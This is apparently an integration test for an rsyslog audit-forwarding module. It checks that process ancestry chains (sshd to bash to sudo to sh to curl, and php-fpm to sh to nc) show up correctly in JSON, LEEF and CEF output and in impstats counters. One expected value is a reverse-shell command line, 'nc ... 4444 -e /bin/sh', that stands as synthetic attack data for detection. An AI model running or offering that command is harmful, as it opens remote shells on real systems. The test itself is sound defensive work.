#!/usr/bin/env bash
# Process ancestry through a private rsyslogd, in every format: the
# synthetic streams sshd -> bash -> sudo -> sh -> curl (node web01) and a
# web server user's php-fpm -> sh -> nc (node db02) arrive with each
# process's ancestors, nearest first, as JSON "ancestry" and as LEEF and
# CEF ancestry.<n>.* keys; impstats counts the table's hits and size.
# shellcheck source=tests/integration/lib.sh
. "$(dirname "$0")/lib.sh"

require_rsyslogd
require_cmd "$PYTHON"
require_module
stream=$top_srcdir/tests/data/ancestry_chains.log

rport=$(free_port)
sport=$(free_port)
receiver_conf "$rport" "$T/received.txt" >"$T/receiver.conf"
action="module(load=\"impstats\" interval=\"1\" format=\"json\" log.syslog=\"off\" log.file=\"$T/stats.log\")
$(omauditfwd_action "$rport" 'statsname="anc-json" ancestry="on"')
$(omauditfwd_action "$rport" 'statsname="anc-leef" ancestry="on" format="leef" leef.delimiter="^"')
$(omauditfwd_action "$rport" 'statsname="anc-cef" ancestry="on" ancestry.depth="2" format="cef"')"
sender_conf "$sport" "$action" >"$T/sender.conf"
rsyslog_start receiver "$T/receiver.conf"
rsyslog_start sender "$T/sender.conf"
SEND_HOST=relay01 send_lines "$stream" "$sport" >/dev/null || fail "sending failed"
# 8 events, three formats
wait_for_lines "$T/received.txt" 24 30 || fail "the events did not arrive"

"$PYTHON" - "$T/received.txt" <<'PY' || fail "wrong ancestry (above)"
import json, re, sys
lines = [l.strip() for l in open(sys.argv[1]) if l.strip()]
js = [json.loads(l) for l in lines if l.startswith("{")]
leef = [l for l in lines if l.startswith("LEEF:")]
cef = [l for l in lines if l.startswith("CEF:")]
assert len(js) == len(leef) == len(cef) == 8, (len(js), len(leef), len(cef))
want = {  # pid -> ancestors' comms, nearest first (depth 4)
    "1400": ["sh", "sudo", "bash", "sshd"],
    "2200": ["sh", "php-fpm8.2"],
    "1000": [],
}
ok = True
by_pid = {e["SYSCALL"]["pid"]: e for e in js}
for pid, comms in want.items():
    got = [a["comm"] for a in by_pid[pid].get("ancestry", [])]
    if got != comms:
        print("json pid %s: %s, expected %s" % (pid, got, comms)); ok = False
nc = by_pid["2200"]["ancestry"][0]
if nc != {"pid": "2100", "ppid": "2000", "exe": "/usr/bin/dash", "comm": "sh",
          "argv": "sh -c nc 203.0.113.9 4444 -e /bin/sh", "uid": "33", "auid": "4294967295"}:
    print("json: nc's parent:", nc); ok = False
def kv(line, sep):
    body = line.split("|", 7 if line.startswith("LEEF") else 7)[-1]
    return body
for l in leef:
    if "SYSCALL.pid=1400" in l:
        for n, comm in enumerate(want["1400"], 1):
            if "^ancestry.%d.comm=%s^" % (n, comm) not in l:
                print("leef: no ancestry.%d.comm=%s in %s" % (n, comm, l)); ok = False
        if "^ancestry.4.argv=/usr/sbin/sshd -D^" not in l:
            print("leef: sshd's argv missing"); ok = False
        if "ancestry.5." in l:
            print("leef: deeper than 4"); ok = False
for l in cef:  # ancestry.depth="2"
    if "SYSCALL.pid=1400" in l:
        if " ancestry.1.comm=sh " not in l or " ancestry.2.comm=sudo " not in l or "ancestry.3." in l:
            print("cef: expected sh, sudo and no more:", l); ok = False
    if "SYSCALL.pid=2200" in l and " ancestry.2.exe=/usr/sbin/php-fpm8.2 " not in l:
        print("cef: php-fpm missing:", l); ok = False
print("ancestry right in json, leef, cef" if ok else "FAILED")
sys.exit(0 if ok else 1)
PY
# json: 8 events; 13 ancestors found (4+3+2+1 and 2+1), 7 walks stopped at
# pid 1 (unknown); 8 processes; relayed hosts: /proc never read
"$PYTHON" - "$T/stats.log" <<'PY' || fail "impstats (above)"
import json, sys, time
for _ in range(100):
    try:   # impstats writes its file at its first interval
        rows = [json.loads(l[l.index("{"):]) for l in open(sys.argv[1])]
    except FileNotFoundError:
        rows = []
    r = [x for x in rows if x.get("name") == "anc-json"]
    if r and r[-1].get("ancestry.size") == 8:
        r = r[-1]
        ok = r["ancestry.hits"] == 13 and r["ancestry.misses"] == 7 and r["ancestry.proc"] == 0
        print(json.dumps(r)); sys.exit(0 if ok else 1)
    time.sleep(0.1)
print("no anc-json counters with ancestry.size 8"); sys.exit(1)
PY
rsyslog_stop sender || fail "sender did not stop"
rsyslog_stop receiver || fail "receiver did not stop"
pass "ancestry of both chains right in json, leef and cef; counters right; no /proc for relays"
